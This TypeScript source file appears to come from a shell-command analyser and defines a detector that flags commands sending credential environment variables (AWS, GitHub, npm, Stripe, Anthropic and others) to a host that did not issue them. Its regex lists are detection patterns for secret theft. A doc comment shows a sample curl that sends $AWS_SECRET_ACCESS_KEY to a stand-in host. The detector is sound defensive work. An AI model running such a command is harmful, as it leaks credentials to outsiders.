import type { Word } from '../../shell/command.js';
import type { Running } from '../command/apply.js';
import { textOf } from '../../shell/command.js';
import { emitResource } from '../command/apply.js';

/** Who gives out the tokens that variables of these names hold, by a word of the addresses that they are for. */
const ISSUERS: readonly (readonly [variable: RegExp, hosts: RegExp])[] = [
  [/^(?:GITHUB|GH)_(?:\w+_)?(?:TOKEN|PAT)$/, /git|copilot/],
  [/^(?:GITLAB|GL|CI_JOB)_(?:\w+_)?TOKEN$/, /git/],
  [/^AWS_(?:SECRET_ACCESS_KEY|SESSION_TOKEN)$/, /aws|amazon/],
  [/^(?:NPM|NODE_AUTH|YARN_NPM_AUTH)_TOKEN$/, /npm|yarn|registry|pkg|package|artifact|nexus|jfrog/],
  [/^(?:ANTHROPIC|CLAUDE)_API_KEY$/, /anthropic|claude/],
  [/^STRIPE_(?:\w+_)?(?:SECRET|KEY)(?:_KEY)?$/, /stripe/],
  [/^(?:PYPI|TWINE)_(?:\w+_)?(?:TOKEN|PASSWORD)$/, /pypi|python|artifact|nexus|jfrog/],
  [/^DATABASE_URL$|^(?:PG|POSTGRES_|MYSQL_|DB_)PASSWORD$/, /^$/],
];

const VARIABLE = /\$\{?([A-Z][A-Z0-9_]*)/g;

/** The name of a machine on the net; none for this one, for containers beside it, and where a variable stands for it. */
const HOST = /^(?:https?:\/\/)?(?:[^/?#@\s]*@)?((?!localhost\b|127\.|10\.|192\.168\.)[\w-]+(?:\.[\w-]+)+)(?::\d+)?(?=[/?#]|$)/i;

/** `curl "https://x.test/?k=$AWS_SECRET_ACCESS_KEY"`: a token that somebody else gave out goes to a host, in its address or as data. In a header it may be for a service of the same issuer. */
export function foreignTokens(args: readonly Word[], running: Running): void {
  const hosts = args.flatMap((word) => HOST.exec(textOf(word))?.[1]?.toLowerCase() ?? []);
  const [host, ...others] = hosts;
  if (host === undefined || others.length > 0) return;
  args.forEach((word, index) => {
    if (word.values[0].certainty === 'certain' || !word.written.includes('$') || /^(?:-H|--header|-u|--user)$/.test(textOf(args[index - 1]))) return;
    for (const [, name = ''] of word.written.matchAll(VARIABLE)) {
      if (ISSUERS.some(([variable, own]) => variable.test(name) && !own.test(host))) emitResource('send', 'credential', name, running);
    }
  });
}
